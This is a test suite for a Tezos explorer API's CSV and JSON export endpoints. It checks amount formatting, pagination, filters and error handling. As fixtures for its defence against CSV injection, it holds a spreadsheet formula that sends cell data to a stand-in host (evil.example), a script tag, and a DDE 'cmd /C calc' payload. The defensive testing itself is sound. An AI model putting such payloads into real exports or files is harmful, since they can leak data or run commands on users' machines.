import { describeDb } from '@michelscope/db/testing';
import { accountOperationsAll, bigMapKeyDiffsAll, recentlyCalledAll } from '@michelscope/db/read';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import type { FastifyInstance } from 'fastify';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, exportChunks, mutezToTez } from '../src/export/writer';
import { OPERATION_COLUMNS } from '../src/export/columns';
import { makeApi } from './helpers';
import { ALICE, BOB, NET, OPG2, TOKEN, TWIN, keyHash, seedChain } from './seed';

/** A hostile string from the chain: a spreadsheet formula, a quote, a comma, a line break and HTML. */
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click"),\r\n<script>alert(1)</script>';

describe('export fields', () => {
  it('writes mutez as tez with six decimals, exactly', () => {
    expect(mutezToTez('5000000')).toBe('5.000000');
    expect(mutezToTez('1')).toBe('0.000001');
    expect(mutezToTez('0')).toBe('0.000000');
    expect(mutezToTez('123456789012345678901')).toBe('123456789012345.678901');
    expect(mutezToTez('-2500000')).toBe('-2.500000');
    expect(mutezToTez('x')).toBe('');
    expect(mutezToTez(null)).toBe('');
  });

  it('quotes CSV fields and defuses spreadsheet formulas of chain strings', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    for (const start of ['+', '-', '@', '\t', '\r'])
      expect(csvField(`${start}cmd`)).toBe(/[\r]/.test(start) ? `"'${start}cmd"` : `'${start}cmd`);
    expect(csvField('-12.5')).toBe('-12.5');
    // a formula behind leading white space (a spreadsheet trims it before reading the formula)
    for (const lead of [' ', '  ', '\t', '\r', '\n', ' \t\r\n', '\n '])
      for (const op of ['=', '+', '-', '@']) {
        const cell = `${lead}${op}cmd|' /C calc'!A0`;
        const field = csvField(cell);
        const inner = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
        expect(inner, JSON.stringify(cell)).toBe(`'${cell}`);
      }
    // white space not followed by a formula is text as it is
    expect(csvField(' plain')).toBe(' plain');
    expect(csvField(' 12')).toBe(' 12');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(false)).toBe('false');
    expect(csvField({ prim: 'Pair', args: [{ string: 'a,b' }] })).toBe(
      '"{""prim"":""Pair"",""args"":[{""string"":""a,b""}]}"',
    );
  });

  it('writes an empty export as a header alone / an empty JSON array', async () => {
    const cols = OPERATION_COLUMNS.slice(0, 2);
    async function* none(): AsyncGenerator<never[]> {}
    const text = async (f: 'csv' | 'json') => {
      let out = '';
      for await (const chunk of exportChunks(f, cols, none())) out += chunk;
      return out;
    };
    expect(await text('csv')).toBe('id,level\r\n');
    expect(JSON.parse(await text('json'))).toEqual([]);
  });
});

type Row = Record<string, string>;
/** CSV text → rows by header (a real CSV parser: quoting and line breaks inside fields as a spreadsheet reads). */
const csvRows = (text: string): Row[] => parse<Row>(text, { columns: true, record_delimiter: '\r\n' });

// PGlite and PostgreSQL: export paths (keyset batches streamed out) on each backend.
describeDb('exports', { backends: 'both' }, ({ db }) => {
  let app: FastifyInstance;
  const get = (url: string) => app.inject({ method: 'GET', url });
  const csv = async (url: string) => {
    const r = await get(url);
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/csv/);
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
    return { rows: csvRows(r.body), header: r.body.slice(0, r.body.indexOf('\r\n')).split(',') };
  };
  const json = async (url: string) => {
    const r = await get(`${url}${url.includes('?') ? '&' : '?'}format=json`);
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toMatch(/^application\/json/);
    return JSON.parse(r.body) as Array<Record<string, unknown>>;
  };
  const base = `/v1/contract/${NET}/${TOKEN}`;

  beforeAll(async () => {
    await seedChain(db());
    const p = await sql<{ id: number }>`SELECT id FROM protocols LIMIT 1`.execute(db());
    const proto = p.rows[0]!.id;
    // token metadata (one with a hostile name), a migration, a hostile event tag
    await sql`INSERT INTO token_metadata (network, contract, token_id, level, status, name, symbol, decimals, metadata)
      VALUES (${NET}, ${TOKEN}, 0, 2, 3, ${HOSTILE}, 'EVL', 6, ${JSON.stringify({ name: HOSTILE })}::jsonb),
             (${NET}, ${TOKEN}, 2, 2, 3, 'Gold', 'GLD', 0, '{"name":"Gold"}'::jsonb),
             (${NET}, ${TOKEN}, 10, 3, 3, 'Silver', 'SLV', 0, NULL)`.execute(db());
    await sql`INSERT INTO migrations (network, level, timestamp, protocol_id, prev_protocol_id, kind, contract)
      VALUES (${NET}, 3, now(), ${proto}, ${proto}, 'lambda', ${TOKEN})`.execute(db());
    await sql`UPDATE operations SET tag = ${HOSTILE} WHERE network = ${NET} AND kind = 'event'`.execute(db());
    app = await makeApi(db());
  });
  afterAll(() => app?.close());

  it('operations: every operation of the account, newest first, amounts in mutez and tez', async () => {
    const { rows, header } = await csv(`${base}/operations/export`);
    expect(header).toEqual(OPERATION_COLUMNS.map((c) => c.name));
    // origination, transfer, internal event and transaction (level 2), failed call (3), remove (4)
    expect(rows.map((r) => r.level)).toEqual(['4', '3', '2', '2', '2', '1']);
    const origination = rows.at(-1)!;
    expect(origination).toMatchObject({
      kind: 'origination',
      source: ALICE,
      amount_mutez: '5000000',
      amount_tez: '5.000000',
      fee_mutez: '1000',
      fee_tez: '0.001000',
    });
  });

  it("operations: the tab's filters and search text", async () => {
    const failed = await json(`${base}/operations/export?status=failed`);
    expect(failed).toHaveLength(1);
    expect(failed[0]).toMatchObject({
      level: 3,
      status: 'failed',
      entrypoint: 'transfer',
      fee_tez: '0.000500',
    });
    expect(await json(`${base}/operations/export?entrypoint=remove,nothing`)).toHaveLength(1);
    expect(await json(`${base}/operations/export?from=${Date.parse('2030-01-01')}`)).toEqual([]);
    // the text: an address on the other side (BOB: the failed call and the internal transfer to him)
    const withBob = await json(`${base}/operations/export?search=${BOB}`);
    expect(withBob.map((r) => r.level)).toEqual([3, 2]);
    // …or the start of a group hash
    const byHash = await json(`${base}/operations/export?search=ooResetGroup`);
    expect(byHash.map((r) => r.entrypoint)).toEqual(['remove']);
    // LIKE wildcards in the text are plain characters
    expect(await json(`${base}/operations/export?search=oo%25`)).toEqual([]);
  });

  it('operations: pages by id without repeating or losing a row', async () => {
    const ids: number[] = [];
    const f = { statuses: [], entrypoints: [], from: null, to: null };
    for await (const batch of accountOperationsAll(db(), NET, TOKEN, f, 2)) {
      expect(batch.length).toBeLessThanOrEqual(2);
      ids.push(...batch.map((r) => r.id));
    }
    expect(ids).toHaveLength(6);
    expect([...ids].sort((a, b) => b - a)).toEqual(ids);
  });

  it('big-map keys: the rows of the keys list, with values, and its filters', async () => {
    const list = JSON.parse((await get(`/v1/bigmap/${NET}/0/keys?size=10`)).body) as Array<{
      data: { key_hash: string; key_string: string; is_active: boolean; level: number };
      count: number;
    }>;
    const { rows } = await csv(`/v1/bigmap/${NET}/0/keys/export`);
    expect(rows.map((r) => r.key_hash)).toEqual(list.map((k) => k.data.key_hash));
    expect(rows.map((r) => r.key)).toEqual(list.map((k) => k.data.key_string));
    expect(rows.map((r) => r.active)).toEqual(list.map((k) => String(k.data.is_active)));
    expect(rows.map((r) => r.updates_count)).toEqual(list.map((k) => String(k.count)));
    const alice = rows.find((r) => r.key === ALICE)!;
    expect(JSON.parse(alice.value_micheline!)).toEqual({ int: '7' });
    expect(JSON.parse(alice.key_micheline!)).toEqual({ string: ALICE });
    const bob = rows.find((r) => r.key === BOB)!;
    expect(bob).toMatchObject({ active: 'false', value_micheline: '' });
    const active = await json(`/v1/bigmap/${NET}/0/keys/export?active_only=true`);
    expect(active.map((r) => r.key)).toEqual([ALICE]);
    expect(active[0]).toMatchObject({ value_micheline: { int: '7' }, active: true, updates_count: 1 });
    const found = await json(`/v1/bigmap/${NET}/0/keys/export?search=${BOB.slice(0, 10)}`);
    expect(found.map((r) => r.key)).toEqual([BOB]);
  });

  it('key history: every update of the key, newest first', async () => {
    const rows = await json(`/v1/bigmap/${NET}/0/keys/${keyHash(BOB)}/export`);
    expect(rows.map((r) => [r.level, r.removed, r.value_micheline])).toEqual([
      [4, true, null],
      [2, false, { int: '3' }],
    ]);
    expect(rows[0]!.operation_hash).toMatch(/^ooResetGroupHash/);
    const seen: number[] = [];
    for await (const b of bigMapKeyDiffsAll(db(), NET, 0, keyHash(ALICE), 1))
      seen.push(...b.map((r) => r.level));
    expect(seen).toEqual([2, 1]);
  });

  it('events: the rows of the events list; a hostile tag stays data', async () => {
    const list = JSON.parse((await get(`${base}/events?size=10`)).body) as Array<{
      tag: string;
      level: number;
    }>;
    const { rows } = await csv(`${base}/events/export`);
    expect(rows.map((r) => [r.tag, r.level])).toEqual(list.map((e) => [`'${e.tag}`, String(e.level)]));
    // the CSV field holds the whole string (quote, comma, line break) behind an apostrophe: not a formula
    expect(rows[0]!.tag).toBe(`'${HOSTILE}`);
    expect(JSON.parse(rows[0]!.payload_micheline!)).toEqual({ int: '3' });
    const items = await json(`${base}/events/export`);
    expect(items[0]).toMatchObject({ tag: HOSTILE, payload_micheline: { int: '3' }, level: 2 });
  });

  it("ticket updates: an account's updates as holder and as ticketer", async () => {
    for (const who of [BOB, TOKEN]) {
      const rows = await json(`/v1/account/${NET}/${who}/ticket_updates/export`);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({
        ticketer: TOKEN,
        account: BOB,
        amount: '5',
        content_micheline: { string: 'gold' },
        content_type_micheline: { prim: 'string' },
        level: 2,
      });
    }
    expect(await json(`/v1/account/${NET}/${ALICE}/ticket_updates/export`)).toEqual([]);
  });

  it("ticket updates: an operation's updates, the rows of its list", async () => {
    const [held] = await json(`/v1/account/${NET}/${BOB}/ticket_updates/export`);
    const hash = held!.operation_hash as string;
    const group = JSON.parse((await get(`/v1/opg/${NET}/${hash}`)).body) as Array<{ id: number }>;
    const lists = await Promise.all(
      group.map(async (op) => ({
        id: op.id,
        list: JSON.parse((await get(`/v1/operation/${NET}/${op.id}/ticket_updates`)).body) as Array<{
          id: number;
          ticketer: string;
          address: string;
          amount: string;
          operation_hash: string;
        }>,
      })),
    );
    const withUpdates = lists.filter((l) => l.list.length > 0);
    expect(withUpdates).toHaveLength(1);
    const { id, list } = withUpdates[0]!;
    const rows = await json(`/v1/operation/${NET}/${id}/ticket_updates/export`);
    expect(rows.map((r) => [r.id, r.ticketer, r.account, r.amount, r.operation_hash])).toEqual(
      list.map((u) => [u.id, u.ticketer, u.address, u.amount, u.operation_hash]),
    );
    expect(rows[0]).toMatchObject({ account: BOB, amount: '5', content_micheline: { string: 'gold' } });
    const { rows: csvOut, header } = await csv(`/v1/operation/${NET}/${id}/ticket_updates/export`);
    expect(header).toContain('content_micheline');
    expect(csvOut.map((r) => r.account)).toEqual([BOB]);
    expect((await get(`/v1/operation/${NET}/99999999/ticket_updates/export`)).statusCode).toBe(404);
    expect((await get(`/v1/operation/${NET}/abc/ticket_updates/export`)).statusCode).toBe(400);
  });

  it('tokens: by token id, with the search; hostile names stay data', async () => {
    const { rows } = await csv(`${base}/tokens/export`);
    expect(rows.map((r) => r.token_id)).toEqual(['0', '2', '10']);
    expect(rows[0]!.name).toBe(`'${HOSTILE}`);
    const items = await json(`${base}/tokens/export`);
    expect(items[0]).toMatchObject({
      name: HOSTILE,
      symbol: 'EVL',
      decimals: 6,
      metadata: { name: HOSTILE },
    });
    expect((await json(`${base}/tokens/export?search=ilv`)).map((r) => r.token_id)).toEqual(['10']);
    expect((await json(`${base}/tokens/export?search=2`)).map((r) => r.token_id)).toEqual(['2']);
    expect((await json(`${base}/tokens/export?search=%25`)).map((r) => r.token_id)).toEqual([]);
  });

  it('token holders: the live ledger balances, as tokens/holders answers them', async () => {
    const holders = JSON.parse((await get(`${base}/tokens/holders`)).body) as Record<string, string>;
    const { rows } = await csv(`${base}/tokens/holders/export`);
    expect(Object.fromEntries(rows.map((r) => [r.address, r.balance]))).toEqual(holders);
    expect(rows).toEqual([{ token_id: '0', address: ALICE, balance: '7' }]);
    // a single-asset ledger holds no token 1
    expect(await json(`${base}/tokens/holders/export?token_id=1`)).toEqual([]);
    expect((await get(`${base}/tokens/holders/export?token_id=-1`)).statusCode).toBe(400);
  });

  it('same contracts and migrations: the rows of the details lists', async () => {
    const same = await json(`${base}/same/export`);
    expect(same.map((r) => [r.network, r.address])).toEqual([[NET, TWIN]]);
    const migrations = await json(`${base}/migrations/export`);
    expect(migrations).toHaveLength(1);
    expect(migrations[0]).toMatchObject({ level: 3, kind: 'lambda' });
    const list = JSON.parse((await get(`${base}/migrations`)).body) as Array<Record<string, unknown>>;
    expect(migrations.map((m) => [m.level, m.kind, m.protocol])).toEqual(
      list.map((m) => [m.level, m.kind, m.protocol]),
    );
  });

  it('recently called: every contract in the list order, keyset-paged', async () => {
    const list = JSON.parse((await get(`/v1/stats/${NET}/recently_called_contracts?size=10`)).body) as Array<{
      address: string;
      operations_count: number;
    }>;
    const rows = await json(`/v1/stats/${NET}/recently_called_contracts/export`);
    expect(rows.map((r) => [r.address, r.operations_count])).toEqual(
      list.map((c) => [c.address, c.operations_count]),
    );
    const paged: string[] = [];
    for await (const b of recentlyCalledAll(db(), NET, 1)) paged.push(...b.map((r) => r.address));
    expect(paged).toEqual(list.map((c) => c.address));
  });

  it('search results: the results of the search, in its order', async () => {
    const body = { query: TOKEN.slice(0, 16), filters: { networks: [NET] } };
    const page = JSON.parse(
      (await app.inject({ method: 'POST', url: '/search/v1/search', payload: { ...body, size: 10 } })).body,
    ) as { items: Array<{ type: string; value: string }> };
    expect(page.items.length).toBeGreaterThan(0);
    const r = await app.inject({
      method: 'POST',
      url: '/search/v1/search/export?format=json',
      payload: body,
    });
    expect(r.statusCode, r.body).toBe(200);
    const rows = JSON.parse(r.body) as Array<Record<string, unknown>>;
    expect(rows.map((x) => [x.type, x.value])).toEqual(page.items.map((i) => [i.type, i.value]));
    expect(rows[0]).toMatchObject({ network: NET, value: TOKEN });
    const c = await app.inject({ method: 'POST', url: '/search/v1/search/export', payload: body });
    expect(csvRows(c.body).map((x) => x.value)).toEqual(page.items.map((i) => i.value));
    // an operation's row has its level and time (the body's `Level` and `@timestamp`)
    const ops = await app.inject({
      method: 'POST',
      url: '/search/v1/search/export?format=json',
      payload: { query: OPG2, filters: { networks: [NET], index: ['operations'] } },
    });
    const op = (JSON.parse(ops.body) as Array<Record<string, unknown>>)[0];
    expect(op).toMatchObject({ type: 'operation', value: OPG2, level: 2 });
    expect(op?.timestamp).toMatch(/^\d{4}-\d\d-\d\dT/);
  });

  it('bad input: 400 / 404 with a message, never a 500', async () => {
    const bad = await get(`${base}/operations/export?status=applied,pending`);
    expect(bad.statusCode).toBe(400);
    expect(JSON.parse(bad.body)).toEqual({ message: 'unknown status: pending' });
    expect((await get(`${base}/operations/export?format=xml`)).statusCode).toBe(400);
    const unknown = `/v1/contract/${NET}/KT1UnknownContractxxxxxxxxxxxxxxxxxx`;
    for (const path of ['operations', 'events', 'tokens', 'tokens/holders', 'same', 'migrations']) {
      const r = await get(`${unknown}/${path}/export`);
      expect(r.statusCode, path).toBe(404);
      expect(JSON.parse(r.body)).toHaveProperty('message');
    }
    expect((await get(`/v1/contract/${NET}/nope/operations/export`)).statusCode).toBe(404);
    expect((await get(`/v1/bigmap/${NET}/99/keys/export`)).statusCode).toBe(404);
    expect((await get(`/v1/bigmap/${NET}/0/keys/export?min_level=5&max_level=5`)).statusCode).toBe(400);
    expect((await get(`/v1/bigmap/nonet/0/keys/export`)).statusCode).toBe(400);
    expect((await get(`/v1/bigmap/${NET}/0/keys/exprBad/export`)).statusCode).toBe(400);
    expect((await get(`/v1/stats/nonet/recently_called_contracts/export`)).statusCode).toBe(400);
    const noQuery = await app.inject({ method: 'POST', url: '/search/v1/search/export', payload: {} });
    expect(noQuery.statusCode).toBe(400);
  });

  it('stops reading when the client goes away', async () => {
    // a stream destroyed after its first chunk returns the generator: the batch reader is not read to the end
    let reads = 0;
    async function* batches() {
      for (let i = 0; i < 1000; i++) {
        reads++;
        yield [{ i }];
      }
    }
    const { exportStream } = await import('../src/export/writer');
    const s: Readable = exportStream(
      'csv',
      [{ name: 'i', description: '', get: (r: { i: number }) => r.i }],
      batches(),
    );
    await new Promise<void>((resolve) => s.once('data', () => resolve()));
    s.destroy();
    await new Promise((r) => setTimeout(r, 50));
    expect(reads).toBeLessThan(100);
  });
});
